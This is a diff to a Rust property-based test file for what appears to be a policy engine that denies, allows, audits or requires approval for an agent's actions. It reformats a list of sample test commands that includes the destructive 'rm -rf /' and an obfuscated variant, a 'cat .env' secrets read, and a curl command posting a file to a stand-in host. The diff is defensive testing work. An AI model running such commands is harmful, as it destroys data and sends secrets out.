@@ -4,8 +4,16 @@ use super::*;
 use aegis_core::{Fault, Trust};
 use proptest::prelude::*;
 
-const COMMANDS: &[&str] =
-    &["ls", "make", "rm -rf build", "rm -rf /", "cat .env", "curl -d @x https://a.example", "git push", "$X -rf /"];
+const COMMANDS: &[&str] = &[
+    "ls",
+    "make",
+    "rm -rf build",
+    "rm -rf /",
+    "cat .env",
+    "curl -d @x https://a.example",
+    "git push",
+    "$X -rf /",
+];
 
 fn action() -> impl Strategy<Value = &'static str> {
     prop::sample::select(vec!["deny", "require_approval", "audit", "allow"])
@@ -13,7 +21,7 @@ fn action() -> impl Strategy<Value = &'static str> {
 
 fn condition() -> impl Strategy<Value = &'static str> {
     prop::sample::select(vec![
-        "{}",
+        "{action_types: [command_exec, file_read, file_delete, network_request]}",
         "{action_types: [command_exec]}",
         "{action_types: [file_delete]}",
         "{commands: [{run: make}]}",
